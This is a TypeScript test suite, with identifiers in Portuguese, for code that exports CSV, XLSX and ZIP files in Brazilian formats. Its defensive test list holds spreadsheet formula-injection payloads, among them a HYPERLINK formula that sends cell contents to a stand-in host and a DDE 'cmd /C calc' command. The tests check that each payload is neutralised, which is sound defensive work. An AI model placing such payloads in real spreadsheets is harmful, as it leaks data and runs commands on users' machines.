import { randomBytes } from "node:crypto"
import { readXlsx } from "hucre/xlsx"
import { describe, expect, it } from "vitest"
import yauzl from "yauzl"
import type { Celula, Coluna } from "./celulas.ts"
import { campoDeCsv, escreverCsv, porCento } from "./csv.ts"
import { celulaDeXlsx, escreverXlsx } from "./xlsx.ts"
import { zipar } from "./zip.ts"

async function juntar(partes: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const lidas: Uint8Array[] = []
  for await (const parte of partes) lidas.push(parte)
  return Buffer.concat(lidas)
}

async function* lotesDe<L>(...lotes: L[][]): AsyncGenerator<L[]> {
  yield* lotes
}

/** Files of an archive, read by somebody else's reader, which checks sizes; and the CRC. */
function abrirZip(bytes: Buffer): Promise<Map<string, string>> {
  return new Promise((resolver, rejeitar) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true, strictFileNames: true, validateEntrySizes: true }, (erro, zip) => {
      if (erro) return rejeitar(erro)
      const arquivos = new Map<string, string>()
      zip.on("error", rejeitar)
      zip.on("end", () => resolver(arquivos))
      zip.on("entry", (entrada: yauzl.Entry) =>
        zip.openReadStream(entrada, (falha, fluxo) => {
          if (falha) return rejeitar(falha)
          juntar(fluxo).then((b) => {
            arquivos.set(entrada.fileName, b.toString("utf8"))
            zip.readEntry()
          }, rejeitar)
        }),
      )
      zip.readEntry()
    })
  })
}

const ATAQUES = [
  "=1+1",
  "+5511999999999",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u00a0=1",
  '"=1+1"',
  "'=1+1",
  " ' \" @a",
  "＝1+1",
  "＋1",
  "－1",
  "＠a",
  "\u200b=1",
  '=HYPERLINK("http://mau.example/?x="&A1;"clique")',
  "=cmd|' /C calc'!A0",
]

interface LinhaDeTeste {
  readonly texto: string | null
  readonly valor: string | null
  readonly fracao: string | null
  readonly dia: string | null
  readonly em: string | null
  readonly mes: string | null
  readonly codigo: string | null
  readonly cnpj: string | null
  readonly n: number | null
  readonly sim: boolean | null
}
const colunas: readonly Coluna<LinhaDeTeste>[] = [
  { id: "texto", titulo: "Texto", tipo: "texto", valor: (l) => l.texto },
  { id: "valor", titulo: "Valor", tipo: "dinheiro", valor: (l) => l.valor },
  { id: "fracao", titulo: "Alíquota", tipo: "percentual", valor: (l) => l.fracao },
  { id: "dia", titulo: "Dia", tipo: "data", valor: (l) => l.dia },
  { id: "em", titulo: "Em", tipo: "instante", valor: (l) => l.em },
  { id: "mes", titulo: "Mês", tipo: "competencia", valor: (l) => l.mes },
  { id: "codigo", titulo: "Código", tipo: "codigo", valor: (l) => l.codigo },
  { id: "cnpj", titulo: "CNPJ", tipo: "documento", valor: (l) => l.cnpj },
  { id: "n", titulo: "Quantidade", tipo: "inteiro", valor: (l) => l.n },
  { id: "sim", titulo: "Retido", tipo: "sim-nao", valor: (l) => l.sim },
]
const cheia: LinhaDeTeste = {
  texto: 'Café "Sol"; & <Cia>',
  valor: "-1234.56",
  fracao: "0.0702",
  dia: "2026-11-20",
  // 02:59:59Z is still the day before in São Paulo.
  em: "2026-11-21T02:59:59.000Z",
  mes: "2026-10",
  codigo: "35503081234567890123456789012345678901234567890123",
  cnpj: "12ABC34501DE35",
  n: 1500,
  sim: true,
}
const vazia: LinhaDeTeste = {
  texto: null,
  valor: null,
  fracao: null,
  dia: null,
  em: null,
  mes: null,
  codigo: null,
  cnpj: null,
  n: null,
  sim: null,
}

describe("CSV", () => {
  it("é o que a planilha brasileira espera: marca de ordem, ;, CRLF, vírgula e dd/MM/aaaa", async () => {
    const bytes = await juntar(escreverCsv(colunas, lotesDe([cheia], [], [vazia])))
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(bytes.subarray(3).toString("utf8")).toBe(
      `Texto;Valor;Alíquota;Dia;Em;Mês;Código;CNPJ;Quantidade;Retido\r\n"Café ""Sol""; & <Cia>";-1234,56;7,02%;20/11/2026;20/11/2026 23:59:59;10/2026;'35503081234567890123456789012345678901234567890123;12.ABC.345/01DE-35;1500;Sim\r\n;;;;;;;;;\r\n`,
    )
  })

  it.each(ATAQUES)("o texto %j não vira fórmula", (ataque) => {
    for (const tipo of ["texto", "codigo", "documento"] as const)
      expect(campoDeCsv({ tipo, valor: ataque })).toBe(`'${ataque}`)
  })

  it.each<[Celula, string]>([
    [{ tipo: "texto", valor: "comum" }, "comum"],
    [{ tipo: "texto", valor: "1-2=3" }, "1-2=3"],
    [{ tipo: "texto", valor: "'aspas'" }, "'aspas'"],
    [{ tipo: "dinheiro", valor: "-0.01" }, "-0,01"],
    [{ tipo: "dinheiro", valor: "9999999999999.99" }, "9999999999999,99"],
    [{ tipo: "percentual", valor: "-0.5" }, "-50%"],
    [{ tipo: "codigo", valor: "010701" }, "'010701"],
    [{ tipo: "codigo", valor: "1234" }, "1234"],
    [{ tipo: "codigo", valor: "123456789012345" }, "123456789012345"],
    [{ tipo: "codigo", valor: "1234567890123456" }, "'1234567890123456"],
    [{ tipo: "documento", valor: "11222333000181" }, "11.222.333/0001-81"],
    [{ tipo: "documento", valor: "52998224725" }, "529.982.247-25"],
    [{ tipo: "documento", valor: "NIF 55" }, "NIF 55"],
    [{ tipo: "sim-nao", valor: false }, "Não"],
    [{ tipo: "inteiro", valor: -3 }, "-3"],
    [null, ""],
  ])("%j sai %j", (celula, campo) => {
    expect(campoDeCsv(celula)).toBe(campo)
  })

  it.each([
    ["0", "0"],
    ["1", "100"],
    ["0.1", "10"],
    ["0.0702", "7.02"],
    ["0.00123450", "0.12345"],
    ["-0.28", "-28"],
    ["12.3", "1230"],
  ])("a fração %s é %s por cento, sem perder casas", (fracao, percentual) => {
    expect(porCento(fracao)).toBe(percentual)
  })
})

describe("XLSX", () => {
  const abrir = async (bytes: Buffer) => readXlsx(bytes, { readStyles: true })

  it("abre em outro leitor com números, datas e textos nos seus tipos", async () => {
    const bytes = await juntar(escreverXlsx("Notas & <d'água>", colunas, lotesDe([cheia], [vazia])))
    const [folha] = (await abrir(bytes)).sheets
    expect(folha?.name).toBe("Notas & <d'água>")
    expect(folha?.rows[0]).toEqual(colunas.map((c) => c.titulo))
    const [texto, valor, fracao, dia, em, mes, codigo, cnpj, n, sim] = folha?.rows[1] ?? []
    expect([texto, valor, fracao, codigo, cnpj, n, sim]).toEqual([
      'Café "Sol"; & <Cia>',
      -1234.56,
      0.0702,
      cheia.codigo,
      "12.ABC.345/01DE-35",
      1500,
      "Sim",
    ])
    expect([dia, em, mes]).toEqual([
      new Date("2026-11-20T00:00:00Z"),
      new Date("2026-11-20T23:59:59Z"),
      new Date("2026-10-01T00:00:00Z"),
    ])
  })

  it("traz o cabeçalho em negrito e parado, filtro sobre tudo, larguras e formatos", async () => {
    const arquivos = await abrirZip(await juntar(escreverXlsx("Lista", colunas, lotesDe([cheia, vazia]))))
    expect([...arquivos.keys()]).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "xl/_rels/workbook.xml.rels",
      "xl/styles.xml",
      "xl/worksheets/sheet1.xml",
      "xl/workbook.xml",
    ])
    const folha = arquivos.get("xl/worksheets/sheet1.xml") ?? ""
    expect(folha).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
    expect(folha).toContain('<autoFilter ref="A1:J3"/>')
    expect(folha.match(/<col /g)).toHaveLength(colunas.length)
    expect(folha).toContain('<c r="B2" s="3"><v>-1234.56</v></c>')
    expect(arquivos.get("xl/workbook.xml")).toContain("'Lista'!$A$1:$J$3")
    const livro = await abrir(await juntar(escreverXlsx("Lista", colunas, lotesDe([cheia]))))
    const celulas = livro.sheets[0]?.cells
    expect(celulas?.get("0,0")?.style?.font?.bold).toBe(true)
    expect(celulas?.get("1,0")?.style?.font?.bold ?? false).toBe(false)
    expect([1, 2, 3, 4, 5].map((c) => celulas?.get(`1,${c}`)?.style?.numFmt)).toEqual([
      "#,##0.00",
      "0.00%",
      "dd/mm/yyyy",
      "dd/mm/yyyy\\ hh:mm:ss",
      "mm/yyyy",
    ])
  })

  it("nenhum ataque sai como fórmula nem muda de texto", async () => {
    const linhas = ATAQUES.map((texto) => ({ ...vazia, texto }))
    const bytes = await juntar(escreverXlsx("Ataques", colunas.slice(0, 1), lotesDe(linhas)))
    const folha = (await abrirZip(bytes)).get("xl/worksheets/sheet1.xml") ?? ""
    expect(folha).not.toContain("<f>")
    expect(folha.match(/t="inlineStr"/g)).toHaveLength(ATAQUES.length + 1)
    const [lida] = (await abrir(bytes)).sheets
    expect(lida?.rows.slice(1).map(([t]) => t)).toEqual(ATAQUES)
  })

  it("o que o XML não leva é escrito como o formato manda, e volta igual", async () => {
    const textos = ["a\u0000b\u0007", "_x0041_", "linha\r\nseguinte\tfim", "]]>", "😀", "\uffff"]
    const bytes = await juntar(
      escreverXlsx("T", colunas.slice(0, 1), lotesDe(textos.map((texto) => ({ ...vazia, texto })))),
    )
    const folha = (await abrirZip(bytes)).get("xl/worksheets/sheet1.xml") ?? ""
    expect(folha).toContain("a_x0000_b_x0007_")
    expect(folha).toContain("_x005F_x0041_")
    expect(["\0", "\u0007", "\r", "\uffff"].filter((c) => folha.includes(c))).toEqual([])
    const [lida] = (await abrir(bytes)).sheets
    expect(lida?.rows.slice(1).map(([t]) => t)).toEqual(textos)
    expect(celulaDeXlsx("A1", { tipo: "texto", valor: "meio \ud83d" })).toContain("meio \ufffd")
  })

  it("um texto maior que uma célula é cortado dizendo que foi; um dia antes de 1900 fica como texto", () => {
    const longo = celulaDeXlsx("A1", { tipo: "texto", valor: "x".repeat(40_000) })
    const dentro = />([^<>]+)<\/t>/.exec(longo)?.[1] ?? ""
    expect([dentro.length, dentro.endsWith("[texto cortado; inteiro no CSV]")]).toEqual([32_767, true])
    expect(celulaDeXlsx("A1", { tipo: "data", valor: "1900-03-01" })).toContain("<v>61</v>")
    expect(celulaDeXlsx("A1", { tipo: "data", valor: "1899-01-01" })).toContain(">1899-01-01<")
  })
})

describe("ZIP", () => {
  it("é lido por outro programa, com os tamanhos e as somas certos", async () => {
    async function* aos() {
      for (let i = 0; i < 50; i++) yield `parte ${i} é texto\n`.repeat(1000)
    }
    const inteiro = Array.from({ length: 50 }, (_, i) => `parte ${i} é texto\n`.repeat(1000)).join("")
    const bytes = await juntar(
      zipar([
        { nome: "vazio.txt", conteudo: [] },
        { nome: "pasta/ção.txt", conteudo: aos() },
      ]),
    )
    expect(bytes.length).toBeLessThan(inteiro.length / 10)
    expect([...(await abrirZip(bytes))]).toEqual([
      ["vazio.txt", ""],
      ["pasta/ção.txt", inteiro],
    ])
  })

  it("uma fonte que falha faz falhar quem lê, e quem desiste encerra a fonte", async () => {
    async function* quebrada() {
      yield "começo"
      throw new Error("a fonte falhou")
    }
    await expect(juntar(zipar([{ nome: "a", conteudo: quebrada() }]))).rejects.toThrow("a fonte falhou")
    let lidas = 0
    const fim = Promise.withResolvers<void>()
    async function* semFim() {
      try {
        for (;;) {
          lidas++
          yield randomBytes(64 * 1024).toString("latin1")
        }
      } finally {
        fim.resolve()
      }
    }
    for await (const parte of zipar([{ nome: "a", conteudo: semFim() }])) if (parte.length > 100) break
    await fim.promise
    expect(lidas).toBeLessThan(10)
  })
})
